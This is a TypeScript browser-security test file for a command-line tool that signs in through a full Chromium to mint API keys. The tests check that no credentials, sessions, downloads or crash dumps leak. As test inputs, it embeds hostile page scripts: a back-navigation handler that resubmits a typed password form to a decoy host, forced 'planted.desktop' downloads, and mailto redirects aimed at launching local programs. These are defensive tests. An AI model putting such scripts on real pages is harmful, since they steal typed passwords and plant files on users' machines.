import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { findSystemBrowser } from '../../src/browser/find-browser.ts';
import { servePortal } from '../enemies/serve-portal.ts';
import { ask, serveProvider, withBody } from '../enemies/serve-provider.ts';
import { startDecoy } from '../faults/fault-proxy.ts';
import { credentials, expect, test } from '../fixtures.ts';
import { readOffspring } from '../read-offspring.ts';
import { serveProxy } from '../safety/serve-proxy.ts';

// A full Chromium has a new headless mode, and is no headless shell: what one of them forgives the other may not.
const path = findSystemBrowser({ headed: true });
const isShell = path === undefined || /headless[-_]shell/.test(path);

test.skip(isShell, 'needs a full Chromium: `apt-get install chromium`, for example');

for (const portal of ['light', 'heavy'] as const) {
  test(`a full Chromium mints in a ${portal} portal, each time, and leaves no session`, {
    tag: '@extended',
  }, async ({ startServer, runCommand }) => {
    const server = await startServer({ heavy: portal === 'heavy' });
    const env = { ...credentials(server), OCTOPUS_BROWSER: path as string };
    for (const round of [1, 2, 3]) {
      const { code, stdout, stderr } = await runCommand('mint-key', { env });
      expect(code, stderr).toBe(0);
      expect(server.madeKeys().map(({ key }) => key)).toContain(stdout.trim());
      expect(server.liveKeys()).toHaveLength(round);
      expect(server.liveSessions()).toBe(0);
    }
  });
}

test('a full Chromium keeps no page that was typed into for whoever goes back to it: its form sends nothing elsewhere', {
  tag: '@extended',
}, async ({ startServer, runCommand }) => {
  const server = await startServer();
  await using decoy = await startDecoy();
  const again = `addEventListener('pageshow', ({ persisted }) => {
    if (!persisted) return;
    form.action = '${decoy.url}/took';
    form.submit();
  });`;
  await using provider = await serveProvider(server, {
    '/': ask('user name', '', 'method="get" action="/ask"'),
    '/ask': ask('password', again),
    '/take': '<h1>Please wait</h1><script>setTimeout(() => history.back(), 700);</script>',
  });
  const env = { ...provider.env, OCTOPUS_BROWSER: path as string };
  const { code, stderr } = await runCommand('mint-key', { env, words: ['--timeout', '60s'] });
  expect(decoy.heard, stderr).toEqual([]);
  expect(withBody(provider.heard), stderr).toHaveLength(1);
  expect(code, stderr).toBe(4);
});

const FORM =
  '<form><input name="username"><input type="password" name="password"><button>Sign in</button></form>';

for (const [starts, more] of [
  ['is started early', []],
  ['is started by Playwright', ['--trace', 'trace.zip']],
] as const)
  test(`a full Chromium that ${starts} keeps nothing among the user's own files, of what a page downloads or of one that crashes`, {
    tag: more.length > 0 ? '@extended' : [],
  }, async ({ folder, startServer, runCommand }) => {
    const server = await startServer();
    let crashed = 0;
    const script = `const form = document.forms[0];
      form.onsubmit = (event) => event.preventDefault();
      form.password.oninput = () => fetch('/app/typed');
      const link = Object.assign(document.createElement('a'), { href: '/app/file', download: 'planted.desktop' });
      const download = () => { document.body.append(link); link.click(); };
      download();
      setInterval(download, 300);`;
    await using portal = await servePortal(server, `<!doctype html>${FORM}<script>${script}</script>`, {
      '/app/file': (_incoming, outgoing) =>
        void outgoing.writeHead(200, { 'content-type': 'application/octet-stream' }).end('planted'),
      '/app/typed': async (_incoming, outgoing) => {
        await new Promise((resolve) => setTimeout(resolve, 500));
        for (const { id } of readOffspring(process.pid).filter(({ line }) =>
          line.includes('--type=renderer'),
        )) {
          process.kill(id, 'SIGSEGV');
          crashed += 1;
        }
        // What is kept of it takes a moment to be written.
        await new Promise((resolve) => setTimeout(resolve, 1500));
        outgoing.end();
      },
    });
    const env = {
      ...credentials(server),
      OCTOPUS_URL: portal.url,
      OCTOPUS_BROWSER: path as string,
      HOME: folder,
    };
    const { code, stderr } = await runCommand('mint-key', { env, words: ['--timeout', '40s', ...more] });
    const left = await readdir(folder, { recursive: true });

    expect(crashed, stderr).toBeGreaterThan(0);
    expect(code, stderr).not.toBe(0);
    expect(left.filter((name) => /download|planted|\.dmp$/i.test(name))).toEqual([]);
  });

const leading = {
  // Chromium follows one such address alone, until somebody has pressed something.
  'a page': `location = 'mailto:a@b.example';`,
  'a form': `form.onsubmit = () => { form.action = 'mailto:a@b.example'; };`,
};

for (const [starts, more] of [
  ['is started early', []],
  ['is started by Playwright', ['--trace', 'trace.zip']],
] as const)
  for (const [what, script] of Object.entries(leading))
    test(`a full Chromium that ${starts} has no program of this machine started by ${what}, and hands none what was typed`, {
      tag: more.length > 0 || what === 'a page' ? '@extended' : [],
    }, async ({ folder, startServer, runCommand }) => {
      test.skip(process.platform !== 'linux', 'Chromium opens such addresses otherwise there');
      const server = await startServer();
      const bin = join(folder, 'bin');
      await mkdir(bin);
      for (const name of ['xdg-open', 'xdg-email'])
        await writeFile(join(bin, name), `#!/bin/sh\necho "$@" >> ${folder}/opened\n`, { mode: 0o755 });
      await using provider = await serveProvider(server, {
        '/': ask('password', script),
        '/take': '<h1>One moment</h1>',
      });
      const PATH = `${bin}:${process.env.PATH}`;
      const env = { ...provider.env, OCTOPUS_BROWSER: path as string, HOME: folder, PATH };
      const { code, stderr } = await runCommand('mint-key', { env, words: ['--timeout', '40s', ...more] });

      expect(await readFile(join(folder, 'opened'), 'utf8').catch(() => ''), stderr).toBe('');
      expect(withBody(provider.heard), stderr).toHaveLength(what === 'a page' ? 1 : 0);
      expect(code, stderr).toBe(4);
    });

test('a full Chromium signs in for a command that runs on, and leaves neither key nor session', {
  tag: '@extended',
}, async ({ startServer, runCommand }) => {
  const server = await startServer();
  const env = { ...credentials(server), OCTOPUS_BROWSER: path as string };
  const words = ['--', process.execPath, '-e', 'process.exit(process.env.OCTOPUS_API_KEY ? 5 : 1)'];
  const { code, stderr } = await runCommand('with-key', { env, words });
  expect(code, stderr).toBe(5);
  expect(server.liveKeys()).toEqual([]);
  expect(server.liveSessions()).toBe(0);
});

for (const [how, words] of Object.entries({
  'as we start it': [],
  'as Playwright starts it': ['--slow-mo', '1'],
}))
  test(`a full Chromium, ${how}, asks nobody but the server: not its maker about the form either`, {
    tag: '@extended',
  }, async ({ startServer, runCommand }) => {
    const server = await startServer();
    await using proxy = await serveProxy();
    const address = server.url.replace('127.0.0.1', 'octopus.corp.test');
    const env = {
      ...credentials(server),
      OCTOPUS_URL: address,
      ALL_PROXY: proxy.url,
      OCTOPUS_BROWSER: path as string,
    };
    const { code, stderr } = await runCommand('mint-key', { env, words: ['--allow-http', ...words] });

    expect(code, stderr).toBe(0);
    const asked = proxy.seen.map((each) => each.asked);
    expect(asked.filter((each) => !each.includes(new URL(address).host))).toEqual([]);
  });

test('a full Chromium asks nobody whether the password is known from a leak', {
  tag: '@extended',
}, async ({ startServer, runCommand, folder }) => {
  const server = await startServer();
  const [log, browser] = [join(folder, 'net.json'), join(folder, 'chromium')];
  await writeFile(browser, `#!/bin/sh\nexec '${path}' '--log-net-log=${log}' "$@"\n`, { mode: 0o755 });
  const { code, stderr } = await runCommand('mint-key', {
    env: { ...credentials(server), OCTOPUS_BROWSER: browser },
  });

  expect(code, stderr).toBe(0);
  const seen = await readFile(log, 'utf8');
  expect(seen).toContain(`${server.url}/api`);
  expect(seen).not.toContain('passwordsleakcheck');
});
